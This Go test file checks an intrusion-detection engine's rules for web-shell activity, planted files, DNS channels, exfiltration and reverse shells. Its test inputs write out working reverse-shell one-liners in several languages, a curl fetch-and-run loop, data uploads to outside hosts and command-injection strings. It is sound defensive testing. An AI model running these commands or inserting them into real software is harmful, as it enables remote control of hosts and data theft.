package detect

import (
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestPlantedFileRun: a file whose write was reported as persistence, run
// later by whatever triggers it (git runs a hook by a path relative to the
// checkout, a shell runs a script given as its operand), is the plant
// firing; a file nobody flagged, or inline code, is not.
func TestPlantedFileRun(t *testing.T) {
	hook := "/srv/site/.git/hooks/post-merge"
	for _, c := range []struct {
		name  string
		cwd   string
		exe   string
		args  []string
		paths []parser.PathRecord
		want  bool
	}{
		{"git runs the hook by a relative path", "/srv/site", "/usr/bin/dash", []string{"/bin/sh", ".git/hooks/post-merge", "0"},
			[]parser.PathRecord{{Name: ".git/hooks/post-merge", Nametype: "NORMAL"}, {Name: "/bin/sh", Nametype: "NORMAL"}}, true},
		{"a shell given the script", "/", "/usr/bin/bash", []string{"bash", hook}, nil, true},
		{"the file run as a program", "/tmp", hook, []string{hook}, nil, true},
		{"the same name in another checkout", "/srv/other", "/usr/bin/dash", []string{"/bin/sh", ".git/hooks/post-merge"},
			[]parser.PathRecord{{Name: ".git/hooks/post-merge", Nametype: "NORMAL"}}, false},
		{"inline code that names it", "/srv/site", "/usr/bin/dash", []string{"sh", "-c", "cat .git/hooks/post-merge"}, nil, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", hook, true), s.tree)
			ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 300, PPID: 299,
				UID: parser.NewID(33), EUID: parser.NewID(33), AUID: parser.NewID(parser.Unset), User: "www-data",
				Exe: c.exe, Args: c.args, Cwd: c.cwd, Paths: c.paths}
			f := findingOf(e.Observe(s.next(ev), s.tree), "planted-file-run")
			if (f != nil) != c.want {
				t.Fatalf("planted-file-run fired: %v, want %v", f != nil, c.want)
			}
			if f != nil && (f.Stage != StagePersistence || f.Severity < SeverityHigh) {
				t.Errorf("stage %v severity %v, want persistence, high", f.Stage, f.Severity)
			}
		})
	}
}

// TestDNSChannel: the web account asking for TXT records, or a name
// server of its own choosing, is a DNS channel (stage 7); an ordinary
// lookup is not, and a long encoded label is exfiltration's rule.
func TestDNSChannel(t *testing.T) {
	for _, c := range []struct {
		name string
		args []string
		want bool
	}{
		{"dig TXT", []string{"dig", "+short", "TXT", "1.h.upd.example.lab"}, true},
		{"dig -t txt", []string{"dig", "-t", "txt", "h.example.lab"}, true},
		{"nslookup -type=TXT", []string{"nslookup", "-type=TXT", "h.example.lab"}, true},
		{"host -t TXT", []string{"host", "-t", "TXT", "h.example.lab"}, true},
		{"dig @server", []string{"dig", "+short", "@203.0.113.9", "-p", "5353", "vm.b.example.lab"}, true},
		{"nslookup NAME SERVER", []string{"nslookup", "vm.b.example.lab", "203.0.113.9"}, true},
		{"an ordinary lookup", []string{"dig", "+short", "example.org"}, false},
		{"host NAME", []string{"host", "example.org"}, false},
		{"hex labels are exfiltration's", []string{"dig", "@203.0.113.9", "69642c6e616d652c656d61696c2c63.1.d.example.lab"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			f := findingOf(e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/"+c.args[0], c.args...), s.tree), "dns-channel-web")
			if (f != nil) != c.want {
				t.Fatalf("dns-channel-web fired: %v, want %v", f != nil, c.want)
			}
			if f != nil && f.Stage != StageCommandAndControl {
				t.Errorf("stage %v, want command-and-control", f.Stage)
			}
		})
	}
}

// TestChannelTaskReply: a task of a fetch-and-run loop that sends its
// standard input back to the loop's own server is the channel's return
// leg (stage 7); a named file sent there, or stdin sent elsewhere, is
// exfiltration.
func TestChannelTaskReply(t *testing.T) {
	for _, c := range []struct {
		name, rule string
		args       []string
		stage      Stage
	}{
		{"stdin back to the task server", "channel-task-reply", []string{"curl", "-fsS", "--data-binary", "@-", "http://203.0.113.9:8001/r1"}, StageCommandAndControl},
		{"an archive to the task server", "exfil-upload", []string{"curl", "-fsS", "-F", "file=@/tmp/.s.tgz", "http://203.0.113.9:8001/upload"}, StageExfiltrationImpact},
		{"stdin to another server", "exfil-upload", []string{"curl", "--data-binary", "@-", "http://198.51.100.7/x"}, StageExfiltrationImpact},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(300, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "while :; do curl -fsS http://203.0.113.9:8001/t | sh; sleep 3; done")
			s.exec(301, 300, 33, "www-data", "/tmp", "/usr/bin/dash", "sh")
			fs := e.Observe(s.exec(302, 301, 33, "www-data", "/tmp", "/usr/bin/curl", c.args...), s.tree)
			f := findingOf(fs, c.rule)
			if f == nil {
				t.Fatalf("%s did not fire: %v", c.rule, ids(fs))
			}
			if f.Stage != c.stage {
				t.Errorf("stage %v, want %v", f.Stage, c.stage)
			}
			if other := map[string]string{"channel-task-reply": "exfil-upload", "exfil-upload": "channel-task-reply"}[c.rule]; findingOf(fs, other) != nil {
				t.Errorf("%s fired as well", other)
			}
		})
	}
}

// TestEscalationThroughWritableScript: a script of the site the web
// account changed, run by root (cron), is the plant firing with root's
// rights: the privilege gained on its first run (4), the access kept on
// the next (5); the web account running its own change is not; a rewrite no
// rule flagged (root restoring it with sed -i) ends it; and what the run
// forks without an exec (its background payload, under a pid never seen)
// is judged for the web server the change came from.
func TestEscalationThroughWritableScript(t *testing.T) {
	script := "/var/www/news/bin/maint.sh"
	run := func(e *Engine, s *synth, pid int, uid uint32) *Finding {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: pid, PPID: 500,
			UID: parser.NewID(uid), EUID: parser.NewID(uid), AUID: parser.NewID(0), User: map[uint32]string{0: "root", 33: "www-data"}[uid],
			Exe: "/usr/bin/dash", Args: []string{"/bin/sh", script}, Cwd: "/root", Paths: []parser.PathRecord{{Name: script, Nametype: "NORMAL"}}}
		return findingOf(e.Observe(s.next(ev), s.tree), "planted-file-run")
	}
	e, s := webShellScene(t)
	w := s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", script, true)
	w.Paths = []parser.PathRecord{{Name: script, Nametype: "NORMAL"}} // appended: the script existed
	if findingOf(e.Observe(w, s.tree), "webroot-script-modified") == nil {
		t.Fatal("the append to the site's script is not webroot-script-modified")
	}
	if f := run(e, s, 600, 33); f != nil {
		t.Errorf("the web account running its own change: %s fired", f.Title)
	}
	f := run(e, s, 601, 0)
	if f == nil || f.Stage != StageSuspiciousSpawn || f.Severity < SeverityHigh {
		t.Fatalf("root running the changed script the first time: %v, want planted-file-run on stage 4 (the privilege gained), high", f)
	}
	if again := run(e, s, 605, 0); again == nil || again.Stage != StagePersistence {
		t.Fatalf("root running it again (the next minute): %v, want planted-file-run on stage 5 (the access kept)", again)
	}
	// the payload: a python3 under a subshell the log never shows
	ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 603, PPID: 602,
		UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(0), User: "root", Exe: "/usr/bin/python3.11", Args: []string{"python3", "-"}, Cwd: "/root"}
	e.Observe(s.next(ev), s.tree)
	fs := e.Observe(s.connect(603, 602, 0, "/usr/bin/python3.11", "203.0.113.9", 8001), s.tree)
	if len(fs) == 0 || fs[0].Stage != StageCommandAndControl {
		t.Errorf("the forked payload's connect: %v, want a command-and-control finding", ids(fs))
	}
	// root restores the script (sed -i renames a new file over it)
	rs := s.file(parser.KindRename, 610, 601, 0, "/usr/bin/sed", script, true)
	e.Observe(rs, s.tree)
	if f := run(e, s, 611, 0); f != nil {
		t.Errorf("the next run after the restore: %s fired", f.Title)
	}
}

// TestPlantForkOrphan: a payload whose subshell exited before it exec'd
// names init as its parent (ppid=1, news-deser's beacon). The payload is
// adopted; init, every orphan's and daemon's parent, is not: sshd's later
// session under it is no act of the intruder.
func TestPlantForkOrphan(t *testing.T) {
	script := "/var/www/news/bin/maint.sh"
	e, s := webShellScene(t)
	// sshd, started before the log under init, as its listener shows
	e.Observe(s.next(&parser.Event{Kind: parser.KindAccept, Syscall: "accept", Success: true, PID: 700, PPID: 1,
		UID: parser.NewID(0), EUID: parser.NewID(0), Exe: "/usr/sbin/sshd", Peer: parser.Addr{Family: "inet", IP: "10.0.0.7", Port: 50000}}), s.tree)
	w := s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", script, true)
	w.Paths = []parser.PathRecord{{Name: script, Nametype: "NORMAL"}}
	e.Observe(w, s.tree)
	ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 601, PPID: 500,
		UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(0), User: "root",
		Exe: "/usr/bin/dash", Args: []string{"/bin/sh", script}, Cwd: "/root", Paths: []parser.PathRecord{{Name: script, Nametype: "NORMAL"}}}
	if findingOf(e.Observe(s.next(ev), s.tree), "planted-file-run") == nil {
		t.Fatal("root running the changed script: no planted-file-run")
	}
	// the payload's decoder: what the planted line runs is the plant
	// firing (stage 5), not a web server's suspicious spawn
	if f := findingOf(e.Observe(s.exec(602, 1, 0, "root", "/root", "/usr/bin/base64", "base64", "-d"), s.tree), "obfuscation-decode"); f == nil || f.Stage != StagePersistence {
		t.Errorf("the orphaned payload's base64 -d: %v, want obfuscation-decode on stage 5 (the plant firing)", f)
	}
	e.Observe(s.exec(603, 1, 0, "root", "/root", "/usr/bin/python3.11", "python3", "-"), s.tree)
	fs := e.Observe(s.connect(603, 1, 0, "/usr/bin/python3.11", "203.0.113.9", 8001), s.tree)
	if len(fs) == 0 || fs[0].Stage != StageCommandAndControl {
		t.Errorf("the orphaned payload's connect: %v, want a command-and-control finding", ids(fs))
	}
	// sshd's session runs its motd's uname as root in the same cwd, in
	// the plant's window
	if fs := e.Observe(s.exec(701, 700, 0, "root", "/root", "/usr/bin/uname", "uname", "-snrvm"), s.tree); len(fs) != 0 {
		t.Errorf("a child of another daemon under init: %v fired, want none (init is not the plant's fork)", ids(fs))
	}
}

// TestSendingCopy: the ssh an scp or rsync runs to send local files is
// the copy's transport (exfiltration), not a session to another account.
func TestSendingCopy(t *testing.T) {
	for _, c := range []struct {
		parent []string
		want   bool
	}{
		{[]string{"scp", "-q", "-i", "/var/tmp/.nk", "-o", "StrictHostKeyChecking=no", "/var/tmp/.n.sql", "u@203.0.113.9:drop/x.sql"}, true},
		{[]string{"rsync", "-a", "-e", "ssh -p 2222", "/srv/data/", "backup@198.51.100.4:/bk/"}, true},
		{[]string{"scp", "u@203.0.113.9:tools/x", "/tmp/x"}, false}, // fetching
		{[]string{"scp", "/var/tmp/a", "/var/tmp/b"}, false},
	} {
		parent := &parser.Process{Exe: "/usr/bin/" + c.parent[0], Args: c.parent}
		p := &parser.Process{Exe: "/usr/bin/ssh", Parent: parent}
		if got := sendingCopy(p); got != c.want {
			t.Errorf("sendingCopy under %q = %v, want %v", c.parent, got, c.want)
		}
	}
	if sendingCopy(&parser.Process{Exe: "/usr/bin/ssh", Parent: &parser.Process{Exe: "/usr/bin/bash", Args: []string{"bash"}}}) {
		t.Error("an ssh a shell runs is no copy's transport")
	}
}

// TestAppDatabaseSettingsRead: a command reading a PHP application's
// database settings by their usual names is credential access through the
// web server; the application includes them and never shells out to them.
func TestAppDatabaseSettingsRead(t *testing.T) {
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"/bin/cat", "/var/www/news/config/db.php"}, true},
		{[]string{"cat", "/var/www/html/config.php"}, true},
		{[]string{"/bin/cat", "/var/www/html/config.json"}, false},
		{[]string{"/bin/cat", "/var/www/html/about.php"}, false},
	} {
		e, s := webShellScene(t)
		// shell-less: the worker execs the program itself
		fs := e.Observe(s.exec(202, 200, 33, "www-data", "/var/www", "/usr/bin/cat", c.args...), s.tree)
		f := findingOf(fs, "web-server-exploitation")
		if got := f != nil; got != c.want {
			t.Errorf("%q: web-server-exploitation %v, want %v", c.args, got, c.want)
		}
		if f != nil && f.Stage != StageSuspiciousSpawn {
			t.Errorf("%q: stage %s, want a suspicious spawn (credential access, 4)", c.args, f.Stage)
		}
	}
}

// TestInjectionProbe: a web server that only prints a marker, computes or
// sleeps — through a shell or exec'ing the program itself — is an
// injection being confirmed (stage 1); a command that does more is not a
// probe.
func TestInjectionProbe(t *testing.T) {
	for _, c := range []struct {
		exe   string
		args  []string
		stage Stage
	}{
		{"/usr/bin/echo", []string{"/bin/echo", "nr-7a1f"}, StageInitialAccess},
		{"/usr/bin/dash", []string{"sh", "-c", "echo ev-42"}, StageInitialAccess},
		{"/usr/bin/sleep", []string{"/bin/sleep", "5"}, StageInitialAccess},
		{"/usr/bin/dash", []string{"sh", "-c", "echo x; id"}, StageCommandExecution},
	} {
		e, s := webShellScene(t)
		f := findingOf(e.Observe(s.exec(202, 200, 33, "www-data", "/var/www", c.exe, c.args...), s.tree), "web-server-exploitation")
		if f == nil {
			t.Errorf("%q: no web-server-exploitation", c.args)
			continue
		}
		if f.Stage != c.stage {
			t.Errorf("%q: stage %v, want %v (%s)", c.args, f.Stage, c.stage, f.Reason)
		}
	}
}

// TestSudoAndProbeLevels: a host may let the web account run one helper
// through sudo, and a printed marker shows the door, not what went
// through it: both are medium alone (their chains say the rest); asking
// sudo what it may run stays the high search for a way to root.
func TestSudoAndProbeLevels(t *testing.T) {
	for _, c := range []struct {
		exe, rule string
		args      []string
		level     Severity
	}{
		{"/usr/bin/sudo", "privilege-search-web", []string{"sudo", "-n", "id"}, SeverityMedium},
		{"/usr/bin/sudo", "privilege-search-web", []string{"sudo", "-n", "-l"}, SeverityHigh},
		{"/usr/bin/echo", "web-server-exploitation", []string{"/bin/echo", "nr-7a1f"}, SeverityMedium},
	} {
		e, s := webShellScene(t)
		ppid := 201
		if c.rule == "web-server-exploitation" {
			ppid = 200
		}
		f := findingOf(e.Observe(s.exec(202, ppid, 33, "www-data", "/var/www", c.exe, c.args...), s.tree), c.rule)
		if f == nil || f.Severity != c.level {
			t.Errorf("%q: %v, want %s at %v", c.args, f, c.rule, c.level)
		}
	}
}

// TestBrokenQuoteProbePlaced: a quote a file name breaks in the
// application's command is a probe (stage 1) whatever the shell's own
// reading of the string adds for the rules: that reading removes the
// quotes, and once it hid the broken one (desk-attachname, after the
// shell-form reading came in).
func TestBrokenQuoteProbePlaced(t *testing.T) {
	e, s := webShellScene(t)
	cmd := `cd '/srv/app/attachments/1017/replies' && /usr/bin/convert 'o'brien.png[0]' -thumbnail 160x160 /srv/app/thumbs/1017-r1.png 2>&1`
	fs := e.Observe(s.exec(202, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", cmd), s.tree)
	if len(fs) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range fs {
		if f.Stage != StageInitialAccess {
			t.Errorf("%s: stage %v, want initial access (%s)", f.RuleID, f.Stage, f.Reason)
		}
	}
}

// TestDecodeIntoFileNoProbe: an injection whose command decodes data
// into a file plants it: the application's closing quote it leaves
// broken (commented out) makes it no probe.
func TestDecodeIntoFileNoProbe(t *testing.T) {
	e, s := webShellScene(t)
	cmd := `/usr/local/bin/plot --station 'x';echo bG9jYWwgaD0x|base64 -d>/srv/app/lua/api/c.lua #' --days 1 2>&1`
	fs := e.Observe(s.exec(202, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", cmd), s.tree)
	if len(fs) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range fs {
		if f.Stage == StageInitialAccess {
			t.Errorf("%s: placed as a probe (%s)", f.RuleID, f.Reason)
		}
	}
}

// TestGitFetchOverSSH: git pulling over ssh as the web account (a deploy
// with the app's key: benign-press, benign-desk) runs git's fetch
// transport on the other side, not a shell: a repository fetch, whose
// high needs its chain's intent. A push (receive-pack: the loot going
// out) and a plain ssh command stay remote access.
func TestGitFetchOverSSH(t *testing.T) {
	for _, c := range []struct {
		args  []string
		title string
		corro bool
	}{
		{[]string{"/usr/bin/ssh", "-o", "SendEnv=GIT_PROTOCOL", "deploy@127.0.0.1", "git-upload-pack '/srv/git/app.git'"}, "Repository Fetched Over SSH By Web Server Account", true},
		{[]string{"/usr/bin/ssh", "deploy@127.0.0.1", "git-receive-pack '/srv/git/loot.git'"}, "Remote Access Tool Run By Web Server Account", false},
		{[]string{"/usr/bin/ssh", "-i", "/var/www/.ssh/id", "deploy@127.0.0.1", "id"}, "Remote Access Tool Run By Web Server Account", false},
	} {
		e, s := webShellScene(t)
		s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/git", "git", "fetch", "origin")
		f := findingOf(e.Observe(s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/ssh", c.args...), s.tree), "lateral-remote-access-from-web")
		switch {
		case f == nil:
			t.Errorf("%q: no finding", c.args)
		case f.Title != c.title || f.NeedsCorroboration != c.corro:
			t.Errorf("%q: %q corroboration %v, want %q %v", c.args, f.Title, f.NeedsCorroboration, c.title, c.corro)
		}
	}
}

// TestProgramPlantedAndRun: a program the web server's shell copies into
// the system's folders is planted (stage 5); when a hook runs it later as
// root, outside any web context, that run is the plant firing, the run
// acts for the intrusion, and a reverse shell it starts is the backdoor
// calling back (stage 7, titled so). An administrator's copy is neither.
func TestProgramPlantedAndRun(t *testing.T) {
	prog := "/usr/lib/apt/apt-helper-sync"
	e, s := webShellScene(t)
	f := findingOf(e.Observe(s.exec(210, 201, 0, "root", "/", "/usr/bin/install", "install", "-m", "755", "/dev/shm/.p/s", prog), s.tree), "web-program-planted")
	if f == nil || f.Stage != StagePersistence || f.Severity < SeverityHigh {
		t.Fatalf("install into /usr/lib from the web shell: %v, want web-program-planted, stage 5, high", f)
	}
	// apt's hook, hours later: a root shell under apt (no web server
	// among its ancestors) runs the program by the interpreter
	s.exec(400, 1, 0, "root", "/", "/usr/bin/apt-get", "apt-get", "install", "--reinstall", "x")
	s.exec(401, 400, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "if [ -x "+prog+" ]; then setsid -f "+prog+"; fi")
	run := findingOf(e.Observe(s.exec(402, 401, 0, "root", "/", "/usr/bin/php8.2", "/usr/bin/php", prog), s.tree), "planted-file-run")
	if run == nil || run.Stage != StagePersistence {
		t.Fatalf("the hook running the planted program: %v, want planted-file-run on stage 5", run)
	}
	rs := findingOf(e.Observe(s.exec(403, 402, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), s.tree), "web-server-reverse-shell")
	if rs == nil || rs.Stage != StageCommandAndControl || rs.Title != "Reverse Shell Started By A Planted File" {
		t.Fatalf("a reverse shell the planted program starts: %v, want stage 7, titled as started by a planted file", rs)
	}

	// the same copy by an administrator in their own login: no plant
	e2, s2 := webShellScene(t)
	s2.exec(500, 1, 0, "root", "/root", "/usr/bin/bash", "-bash")
	if f := findingOf(e2.Observe(s2.exec(501, 500, 0, "root", "/root", "/usr/bin/install", "install", "-m", "755", "/root/s", prog), s2.tree), "web-program-planted"); f != nil {
		t.Errorf("an administrator's install: %s fired", f.Title)
	}
}

// TestProgramPlantedUnprivileged: the web account itself writing a library
// into a system program folder it was left able to write plants it for a
// more privileged account's program to load: privilege escalation (4,
// T1574), said as inferred; root planting there keeps access (5).
func TestProgramPlantedUnprivileged(t *testing.T) {
	e, s := webShellScene(t)
	f := findingOf(e.Observe(s.exec(210, 201, 33, "www-data", "/opt/app/lib", "/usr/bin/mv", "mv", "-f", ".l.tmp", "/opt/app/lib/libcarrier.so.1"), s.tree), "web-program-planted")
	if f == nil || f.Stage != StageSuspiciousSpawn || !slices.Contains(f.Attack, "T1574") || !strings.Contains(f.Reason, "Inferred") {
		t.Fatalf("the web account replacing a library in /opt: %+v, want web-program-planted on stage 4, T1574, an inferred reason", f)
	}
	e2, s2 := webShellScene(t)
	f = findingOf(e2.Observe(s2.exec(210, 201, 0, "root", "/", "/usr/bin/mv", "mv", "-f", ".l.tmp", "/opt/app/lib/libcarrier.so.1"), s2.tree), "web-program-planted")
	if f == nil || f.Stage != StagePersistence || slices.Contains(f.Attack, "T1574") {
		t.Fatalf("root from the web shell replacing the library: %+v, want stage 5 without T1574", f)
	}
}

// TestSavedOriginalPutBack: the original the intrusion saved aside, moved
// back over the file later (root, after the hijack fired), is its change
// undone: a clean-up (8, T1070), not a plant; a move of anything else
// there is still one.
func TestSavedOriginalPutBack(t *testing.T) {
	e, s := webShellScene(t)
	if f := findingOf(e.Observe(s.exec(210, 201, 33, "www-data", "/opt/app/lib", "/usr/bin/cp", "cp", "-p", "libc.so.1", ".libc.so.1~"), s.tree), "web-program-planted"); f == nil {
		t.Fatal("the copy aside: no web-program-planted")
	}
	e.Observe(s.exec(211, 201, 0, "root", "/", "/usr/bin/dash", "sh", "/var/tmp/.x/r.sh"), s.tree)
	f := findingOf(e.Observe(s.exec(212, 211, 0, "root", "/", "/usr/bin/mv", "mv", "-f", "/opt/app/lib/.libc.so.1~", "/opt/app/lib/libc.so.1"), s.tree), "web-program-planted")
	if f == nil || f.Stage != StageExfiltrationImpact || f.Title != "Saved Original Put Back" || !slices.Equal(f.Attack, []string{"T1070"}) {
		t.Fatalf("the original moved back: %+v, want stage 8, titled as put back, T1070", f)
	}
	if !strings.Contains(f.Reason, "saved aside at") {
		t.Errorf("reason %q: want when the copy was saved", f.Reason)
	}
	f = findingOf(e.Observe(s.exec(213, 211, 0, "root", "/", "/usr/bin/mv", "mv", "-f", "/var/tmp/.x/l.so", "/opt/app/lib/libc.so.1"), s.tree), "web-program-planted")
	if f != nil && f.Title == "Saved Original Put Back" {
		t.Errorf("another file moved there: %q", f.Title)
	}
}

// TestInstalledScriptConnects: an interpreter running a script installed
// among the system's programs (php /usr/local/bin/shop-reconcile from the
// web account's cron) connecting out is the program calling an API, not a
// reverse shell; inline code, a script elsewhere, or a planted program
// connecting out still is.
func TestInstalledScriptConnects(t *testing.T) {
	for _, c := range []struct {
		name string
		args []string
		want bool
	}{
		{"installed script", []string{"/usr/bin/php", "/usr/local/bin/shop-reconcile"}, false},
		{"installed script with options", []string{"python3", "-u", "/opt/feeds/pull.py"}, false},
		{"inline code", []string{"php", "-r", "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"}, true},
		{"a script in the web root", []string{"/usr/bin/php", "/var/www/html/cache/x.php"}, true},
		{"a script in a temporary folder", []string{"python3", "/tmp/.x.py"}, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
			s.exec(301, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", strings.Join(c.args, " "))
			s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/"+path.Base(c.args[0]), c.args...)
			fs := e.Observe(s.connect(302, 301, 33, "/usr/bin/"+path.Base(c.args[0]), "127.0.0.1", 9300), s.tree)
			if got := findingOf(fs, "web-reverse-shell-connect") != nil; got != c.want {
				t.Errorf("%q connecting out: web-reverse-shell-connect %v, want %v", c.args, got, c.want)
			}
		})
	}
}

// TestArgvOptionInjection: a program the web server execs itself (an argv
// array) whose operands the application always filled with names, now
// holding option words, is argument injection; options that run nothing
// or a command that only prints a marker are the probe (stage 1), an
// option that runs a real command is not. A tool whose options always
// follow its operands is never taken for one.
func TestArgvOptionInjection(t *testing.T) {
	zip := func(names ...string) []string {
		return append([]string{"/usr/bin/zip", "-j", "-q", "/tmp/pack1.zip"}, names...)
	}
	for _, c := range []struct {
		name  string
		app   [][]string // the application's own runs first
		args  []string
		probe bool
	}{
		{"--version", [][]string{zip("a.png", "b.png")}, zip("a.png", "--version"), true},
		{"a marker through --unzip-command", [][]string{zip("a.png")}, zip("a.png", "-T", "--unzip-command=echo z-$((6*7))"), true},
		{"a real command through --unzip-command", [][]string{zip("a.png")}, zip("a.png", "-T", "--unzip-command=sh -c id"), false},
		{"no history: nothing to compare", nil, zip("a.png", "--version"), false},
		{"options after operands are the tool's way", [][]string{{"/usr/bin/convert", "in.png", "-resize", "64x64", "out.png"}},
			[]string{"/usr/bin/convert", "x.png", "-resize", "32x32", "y.png"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			pid := 300
			for _, a := range c.app {
				e.Observe(s.exec(pid, 200, 33, "www-data", "/var/www", a[0], a...), s.tree)
				pid++
			}
			var stage Stage
			for _, f := range e.Observe(s.exec(pid, 200, 33, "www-data", "/var/www", c.args[0], c.args...), s.tree) {
				if f.Stage == StageInitialAccess {
					stage = f.Stage
				}
			}
			if got := stage == StageInitialAccess; got != c.probe {
				t.Errorf("%q: placed as a probe %v, want %v", c.args, got, c.probe)
			}
		})
	}
}

// TestArchiveStagingVersion: an archiver asked for its version or usage
// writes no archive: no data is staged.
func TestArchiveStagingVersion(t *testing.T) {
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"/usr/bin/zip", "-j", "-q", "/tmp/p.zip", "a.png"}, true},
		{[]string{"/usr/bin/zip", "-j", "-q", "/tmp/p.zip", "a.png", "--version"}, false},
		{[]string{"/usr/bin/tar", "--help", "/tmp/x"}, false},
	} {
		e, s := webShellScene(t)
		if got := findingOf(e.Observe(s.exec(300, 200, 33, "www-data", "/var/www", c.args[0], c.args...), s.tree), "archive-staging") != nil; got != c.want {
			t.Errorf("%q: archive-staging %v, want %v", c.args, got, c.want)
		}
	}
}

// TestReverseShellCommand: a command line that hands a socket to a shell
// is a reverse shell whoever runs it (root's cron job here): the relay's
// connect opens a channel, and the shell's commands run in it.
func TestReverseShellCommand(t *testing.T) {
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"/usr/bin/ncat", "--ssl", "127.0.0.1", "4447", "-e", "/bin/bash"}, true},
		{[]string{"/usr/bin/socat", "OPENSSL-CONNECT:203.0.113.9:443,verify=0", "EXEC:/bin/sh,stderr"}, true},
		{[]string{"/usr/bin/ncat", "-l", "8080"}, false},
		{[]string{"/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"}, false},
		{[]string{"/usr/bin/nc", "-z", "10.0.0.5", "22"}, false},
		{[]string{"/usr/bin/gawk", `BEGIN {s = "/inet/tcp/0/127.0.0.1/4447"; while (1) {printf "> " |& s; s |& getline c; if (c) {while ((c |& getline) > 0) print $0 |& s; close(c)}}}`}, true},
		{[]string{"/usr/bin/python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4447));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`}, true},
		{[]string{"/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4447,inet_aton("127.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");`}, true},
		{[]string{"/usr/bin/php8.2", "-r", `$s=fsockopen("127.0.0.1",4447);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);`}, true},
		{[]string{"/usr/bin/node", "-e", `var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4447,"127.0.0.1",function(){var p=c.spawn("/bin/sh");s.pipe(p.stdin);p.stdout.pipe(s)})`}, true},
		{[]string{"/usr/bin/zsh", "-c", "zmodload zsh/net/tcp && ztcp 127.0.0.1 4447 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"}, true},
		{[]string{"/usr/bin/perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:4447");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`}, true},
		{[]string{"/usr/bin/xterm", "-display", "127.0.0.1:1"}, true},
		// a socket alone, or a shell alone, is no reverse shell
		{[]string{"/usr/bin/xterm", "-display", ":0"}, false},
		{[]string{"/usr/bin/zsh", "-c", "zmodload zsh/datetime; print $EPOCHSECONDS"}, false},
		{[]string{"/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"}, false},
		{[]string{"/usr/bin/php8.2", "-r", `echo fsockopen("127.0.0.1", 5432) ? "up" : "down";`}, false},
		{[]string{"/usr/bin/python3", "-c", "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"}, false},
		{[]string{"/usr/bin/gawk", "{print $1}", "/var/log/kb/access.log"}, false},
	} {
		if got := handsShellToSocket(c.args[0], c.args); got != c.want {
			t.Errorf("%q: handsShellToSocket %v, want %v (it opens the channel the rule names)", c.args, got, c.want)
		}
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
		s.exec(301, 300, 0, "root", "/", "/usr/bin/python3.11", "/srv/kb/venv/bin/python", "/srv/kb/bin/kb-stats.py")
		f := findingOf(e.Observe(s.exec(302, 301, 0, "root", "/", c.args[0], c.args...), s.tree), "reverse-shell-command")
		if got := f != nil; got != c.want {
			t.Errorf("%q: reverse-shell-command %v, want %v", c.args, got, c.want)
			continue
		}
		if !c.want {
			continue
		}
		e.Observe(s.connect(302, 301, 0, c.args[0], "127.0.0.1", 4447), s.tree)
		e.Observe(s.exec(303, 302, 0, "root", "/", "/usr/bin/bash", "/bin/bash"), s.tree)
		fs := e.Observe(s.exec(304, 303, 0, "root", "/", "/usr/bin/cat", "cat", "/home/svc-reports/.ssh/config"), s.tree)
		if len(fs) == 0 || fs[0].Stage != StageCommandAndControl {
			t.Errorf("%q: the shell's command: %v, want a finding inside the channel (stage 7)", c.args, ids(fs))
		}
	}
}

// TestCrontabInstallNamesItsJobs: crontab writes cron's spool, a place its
// command never names; the programs the installed table names run later
// for the plant (planted-file-run), as they do for an `echo >> /etc/cron.d`.
func TestCrontabInstallNamesItsJobs(t *testing.T) {
